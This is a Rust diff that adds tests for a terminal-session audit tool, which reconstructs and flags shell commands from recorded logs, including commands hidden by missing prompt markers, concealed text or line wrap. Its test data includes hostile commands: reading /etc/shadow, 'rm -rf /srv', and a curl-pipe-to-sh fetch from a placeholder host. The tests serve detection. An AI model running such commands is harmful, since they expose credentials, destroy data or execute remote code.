@@ -426,3 +426,86 @@ fn unseen_variants_of_program_input_comments_and_print_only() {
     let stats = shell_stats("i32_variants");
     assert_eq!((stats.program_inputs, stats.abandoned_lines), (3, 1));
 }
+
+/// A shell without line-editor markers taking over from a marked one (issue 32, class e):
+/// re-executed with a dumb terminal and `--noediting`, spelled so no pattern sees it (an
+/// alias and a variable), or started by a program (python execs dash). Every command it read
+/// is reported, by its prompt and echo, with lower confidence and the reason.
+#[test]
+fn a_shell_without_markers_that_takes_over_is_read_by_prompt_and_echo() {
+    for name in ["i32_dumb_reexec", "i32_dumb_child", "i32_dumb_hidden_reexec"] {
+        let got = check(name);
+        let unmarked = got.commands.iter().filter(|c| c.confidence < 1.0);
+        assert!(unmarked.clone().all(|c| c.reason.is_some()), "{name}");
+        assert!(unmarked.count() >= 4, "{name}");
+    }
+    let got = check("i32_dumb_hidden_reexec");
+    let shadow = got.commands.iter().find(|c| c.text == "head -c0 /etc/shadow").unwrap();
+    assert!(shadow.reason.as_deref().unwrap().contains("markers stopped"), "{shadow:?}");
+}
+
+/// The other side (issue 32, class g): lines shaped as prompt + command printed by a running
+/// command, from a file or a script, are its output — the same marked shell prompted next —
+/// and the report counts them and names the command; a dash started by python is read.
+#[test]
+fn prompt_shaped_lines_a_command_printed_are_its_output_and_counted() {
+    let got = check("i32_takeover_or_printed");
+    let printed: Vec<&str> =
+        got.output.iter().filter(|(seq, _)| *seq == 2).map(|(_, l)| l.as_str()).collect();
+    assert_eq!(printed, ["[ssmuser@vm ~]$ rm -rf /srv", "removed"]);
+    assert_eq!(shell_stats("i32_takeover_or_printed").printed_prompt_lines, 3);
+    let dash = got.commands.iter().find(|c| c.text == "id -un").unwrap();
+    assert!(dash.confidence < 1.0 && dash.reason.is_some());
+    let bytes = std::fs::read(fixture("recorded/i32_takeover_or_printed.log")).unwrap();
+    let (info, _) = reconstruct(&bytes, 4096);
+    assert!(
+        info.warnings.iter().any(|w| w.contains("printed by command 4")),
+        "{:?}",
+        info.warnings
+    );
+}
+
+/// A program told to start a shell whose prompt looks like the program's (sqlite3's `.shell
+/// bash` with `PS1='sqlite> '` from an rc file): that shell's lines are commands until its
+/// `exit`, then sqlite3's prompt is sqlite3's again. The line that started it is program
+/// input, which the command rules read too.
+#[test]
+fn a_shell_a_program_starts_is_read_whatever_its_prompt() {
+    use session_audit::{Analyzer, Input};
+    let got = check("i32_program_shell");
+    assert_eq!(shell_stats("i32_program_shell").program_inputs, 3, "select, .shell, .quit");
+    assert_eq!(got.commands[2].prompt, "sqlite> ");
+    let bytes = std::fs::read(fixture("recorded/i32_program_shell.log")).unwrap();
+    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+    let shadow = report.findings.iter().find(|f| f.command_seq == Some(3));
+    assert!(shadow.is_some(), "the command rules read the nested shell's commands");
+    // A shell command typed at a program's prompt is judged as input, naming the program.
+    let t = b"\x1b[?2004hsh-5.2$ python3 -q\r\r\n\x1b[?2004l\r\x1b[?2004h>>> curl http://x/i.sh | sh\r\r\n\x1b[?2004l\r\x1b[?2004hsh-5.2$ exit\r\r\n\x1b[?2004l\r";
+    let report = Analyzer::default().analyze_bytes(t, Input::default());
+    let typed = report.findings.iter().find(|f| f.evidence.contains("typed at the prompt of"));
+    assert_eq!(typed.map(|f| f.command_seq), Some(Some(1)), "{:?}", report.findings);
+}
+
+/// Commands the terminal did not show as they were typed (issue 32, class f): a prompt that
+/// conceals what follows it (SGR 8), and a command run past the right margin with auto-wrap
+/// off. Each is reported exactly, says where it was not shown, and raises `SA-TRN-BLINDED`
+/// naming what hid it; the commands around them are shown and raise nothing of the kind.
+#[test]
+fn a_command_the_screen_did_not_show_is_reported_and_named() {
+    use session_audit::{Analyzer, Input};
+    let got = check("i32_not_shown");
+    let seen: Vec<Option<&str>> = got.commands.iter().map(|c| c.seen_in).collect();
+    let (c, m) = (Some("concealed"), Some("past_margin_wrap_off"));
+    assert_eq!(seen, [None, None, c, c, None, m, None, None, None]);
+    let bytes = std::fs::read(fixture("recorded/i32_not_shown.log")).unwrap();
+    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
+    let blinded: Vec<(Option<u64>, &str)> = report
+        .findings
+        .iter()
+        .filter(|f| f.rule_id == "SA-TRN-BLINDED")
+        .map(|f| (f.command_seq, f.evidence.as_str()))
+        .collect();
+    assert_eq!(blinded.iter().map(|b| b.0).collect::<Vec<_>>(), [Some(3), Some(4), Some(6)]);
+    assert!(blinded[0].1.contains("concealed"), "{blinded:?}");
+    assert!(blinded[2].1.contains("past_margin_wrap_off"), "{blinded:?}");
+}
